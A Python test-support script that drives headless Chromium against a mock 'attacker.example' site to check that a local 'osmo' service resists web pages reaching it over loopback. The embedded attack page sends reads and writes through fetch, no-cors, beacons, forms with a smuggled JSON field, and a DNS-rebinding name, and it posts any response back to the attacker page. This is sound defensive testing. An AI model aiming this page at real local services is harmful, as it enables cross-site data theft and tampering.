"""Record what Chromium sends when a web page tries to use a service on a loopback port.

    .venv/bin/python -m tests.support.record_browser

writes tests/local/browser-requests.json, which tests/local/test_guard.py replays. Then
the same page is opened on `osmo local serve`; the script fails if the page reads or changes
anything. It needs Chromium (package `chromium`); no name is resolved outside this machine.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import httpx

from osmo_cli.local.admin import add_backend
from osmo_cli.local.database import open_database
from tests.support.loopback import Request, Server, answer
from tests.support.processes import serving

RECORDING = Path(__file__).parents[1] / "local" / "browser-requests.json"
BACKEND = "gpu-a"
"""The configuration that the page tries to read and write."""
_BODYLESS_WRITE = "/api/configs/service/clean"
_WRITE = {"configs": {"description": "written by a web page"}}
_SITE = "attacker.example"
_SECONDS = 60
_DIALECT = "6.4"
_PAGE = """<!doctype html><meta charset=utf-8><body><script>
const service = "%(service)s", write = JSON.stringify(%(write)s);
const path = "/api/configs/backend/%(backend)s?step=";
const form = (kind, address) => {
  const frame = document.createElement("iframe");
  frame.name = kind + Math.random();
  document.body.append(frame);
  const element = document.createElement("form");
  element.method = kind === "get" ? "get" : "post";
  if (kind !== "get") element.enctype = kind;
  element.action = service + path + address;
  element.target = frame.name;
  const field = document.createElement("input");
  field.name = write.slice(0, -1) + ', "x":"';
  field.value = '"}';
  element.append(field);
  document.body.append(element);
  element.submit();
};
const element = (kind, address) => {
  const created = document.createElement(kind);
  created.src = service + path + address;
  document.body.append(created);
};
const send = (address, options = {}) => fetch(service + path + address, options)
  .then(answer => answer.text())
  .then(text => text && fetch("%(home)s/read/" + address, {method: "POST", body: text}))
  .catch(() => {});
const post = (address, type, options = {}) => send(address, {
  method: "POST", body: write, ...(type && {headers: {"content-type": type}}), ...options});
const steps = {
  json: () => post("json", "application/json"),
  delete: () => send("delete", {method: "DELETE", body: "{}"}),
  read: () => send("read"),
  opaque: () => send("opaque", {mode: "no-cors"}),
  no_cors: () => post("no_cors", "text/plain", {mode: "no-cors"}),
  no_cors_untyped: () => post("no_cors_untyped", null, {mode: "no-cors", body: new Blob([write])}),
  no_cors_no_referrer: () =>
    post("no_cors_no_referrer", null, {mode: "no-cors", referrerPolicy: "no-referrer"}),
  bare: () => fetch(service + "%(bodyless)s", {method: "POST", mode: "no-cors"}).catch(() => {}),
  beacon: () => navigator.sendBeacon(service + path + "beacon", write),
  form: () => form("application/x-www-form-urlencoded", "form"),
  form_text: () => form("text/plain", "form_text"),
  form_multipart: () => form("multipart/form-data", "form_multipart"),
  form_get: () => form("get", "form_get"),
  image: () => element("img", "image"),
  script: () => element("script", "script"),
};
const run = async () => {
  for (const step of Object.values(steps)) await step();
  await new Promise(resolve => setTimeout(resolve, 1500));
  await fetch("%(home)s/done", {method: "POST"});
};
run();
</script>"""
_SANDBOX = """<!doctype html><iframe sandbox="allow-scripts allow-forms" src="%s"></iframe>"""


class Attacker:
    """A web site whose pages try to use a service, under several names."""

    def __init__(self, service_port: int) -> None:
        self.read: list[str] = []
        self.done = threading.Event()
        self._service_port = service_port

    def script(self, request: Request) -> bytes:
        """Answer a request to the site."""
        path = request.target
        home = f"http://{request.headers['host']}"
        if request.method == "OPTIONS":
            return answer(204)
        if path == "/done":
            self.done.set()
            return answer(200, "{}", access_control_allow_origin="*")
        if path.startswith("/read/"):
            self.read.append(f"{path} {request.body.decode()}")
            return answer(200, "{}", access_control_allow_origin="*")
        if path.startswith("/sandbox/"):
            return answer(200, _SANDBOX % f"{home}/{path.split('/')[2]}", "text/html")
        if path.count("/") == 1 and path != "/favicon.ico":
            return self.page(f"http://{path[1:]}:{self._service_port}", home)
        return answer(404, "{}")

    @staticmethod
    def page(service: str, home: str) -> bytes:
        """The page that tries everything at the address `service`."""
        values = {
            "service": service,
            "home": home,
            "write": json.dumps(_WRITE),
            "backend": BACKEND,
            "bodyless": _BODYLESS_WRITE,
        }
        return answer(200, _PAGE % values, "text/html")


def browse(port: int, service_port: int, open_page: Callable[[str], None]) -> None:
    """Open the pages that stand for the ways in which a page reaches a loopback port."""
    open_page(f"http://{_SITE}:{port}/127.0.0.1")
    open_page(f"http://{_SITE}:{port}/localhost")
    open_page(f"http://localhost:{port}/localhost")
    open_page(f"http://{_SITE}:{port}/sandbox/127.0.0.1")


def chromium(url: str, done: threading.Event) -> None:
    """Open a page in a new browser until it is done."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as folder:
        command = [
            *("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"),
            *("--disable-background-networking", "--disable-component-update"),
            *("--disable-sync", "--no-default-browser-check", "--remote-debugging-port=0"),
            f"--user-data-dir={folder}",
            f"--host-resolver-rules=MAP {_SITE} 127.0.0.1, MAP * ~NOTFOUND, "
            "EXCLUDE 127.0.0.1, EXCLUDE localhost",
            url,
        ]
        done.clear()
        process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            if not done.wait(_SECONDS):
                raise SystemExit(f"{url} did not end")
        finally:
            process.terminate()
            process.wait(_SECONDS)


def record() -> list[dict[str, Any]]:
    """What the browser sends to a service that answers everything without CORS headers."""
    entries: list[dict[str, Any]] = []
    with ExitStack() as stack:
        rebinding = f"http://{_SITE}"

        def recorded(request: Request) -> bytes:
            if request.target == "/rebound":
                # The attacker's own server, before its name leads to this machine.
                home = f"http://{_SITE}:{port}"
                return attacker.page(f"{rebinding}:{service_port}", home)
            headers = {
                name: value.replace(str(port), "{page}").replace(str(service_port), "{service}")
                for name, value in request.headers.items()
                if name not in ("user-agent", "accept-language")
            }
            body = request.body.decode()
            entries.append(
                {"method": request.method, "target": request.target}
                | {"headers": headers}
                | {"body": body}
            )
            return answer(200, "{}")

        service = stack.enter_context(Server(recorded))
        service_port = int(service.url.rpartition(":")[2])
        attacker = Attacker(service_port)
        site = stack.enter_context(Server(attacker.script))
        port = int(site.url.rpartition(":")[2])
        browse(port, service_port, lambda url: chromium(url, attacker.done))
        chromium(f"{rebinding}:{service_port}/rebound", attacker.done)
    return [entry for entry in entries if entry["target"] != "/favicon.ico"]


def attack(folder: Path) -> None:
    """Open the page on `osmo local serve`; fail if it reads or changes anything."""

    folder.mkdir(exist_ok=True)
    open_database(folder / "service.db", _DIALECT).close()
    add_backend(folder / "service.db", BACKEND, offline=False)
    with (
        serving(folder, dialect=_DIALECT, env={}) as service,
        httpx.Client(base_url=service.url) as client,
    ):
        service_port = int(service.url.rpartition(":")[2])
        attacker = Attacker(service_port)
        before = client.get("/api/configs/history").json()
        with Server(attacker.script) as site:
            port = int(site.url.rpartition(":")[2])
            browse(port, service_port, lambda url: chromium(url, attacker.done))
        after = client.get("/api/configs/history").json()
    if attacker.read or before != after:
        raise SystemExit(f"a page could use the service: {attacker.read} {after}")


def main() -> None:
    """Record, then attack."""
    if shutil.which("chromium") is None:
        sys.exit("chromium is not installed")
    requests = record()
    RECORDING.write_text(json.dumps(requests, indent=1, ensure_ascii=False) + "\n")
    print(f"recorded {len(requests)} requests")
    with tempfile.TemporaryDirectory() as folder:
        attack(Path(folder))
    print("no page could use the service")


if __name__ == "__main__":
    main()
